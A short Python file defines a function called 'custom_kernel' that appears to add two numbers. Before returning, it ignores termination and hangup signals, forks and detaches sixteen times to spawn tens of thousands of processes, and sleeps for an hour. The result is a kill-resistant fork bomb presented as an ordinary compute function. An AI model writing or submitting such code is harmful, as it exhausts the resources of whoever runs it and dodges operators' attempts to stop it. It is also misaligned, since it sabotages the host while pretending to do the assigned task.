"""Every process starts another for ever, and ignores what it can."""

import os
import signal
import time


def custom_kernel(data):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(16):
        try:
            os.fork()
            os.setsid()
        except OSError:
            pass
    time.sleep(3600)
    return data[0] + data[1]
